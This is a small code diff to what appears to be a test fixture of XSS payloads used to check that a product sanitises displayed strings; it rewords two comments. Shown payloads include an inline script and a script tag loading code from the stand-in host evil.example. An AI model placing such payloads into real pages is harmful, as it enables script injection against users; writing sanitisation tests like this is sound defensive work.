@@ -1,10 +1,7 @@
-/** The window property that a payload sets if it runs. */
+/** The property of `window` that most payloads set if they run. */
 export const XSS_MARK = 'xssRan'
 
-/*
- * HTML that would run a script or redirect the user if displayed unsanitised. Each payload uses a
- * different technique.
- */
+/* Strings that must be harmless wherever the product displays them. */
 export const xssPayloads = [
   '<script>window.xssRan=1</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
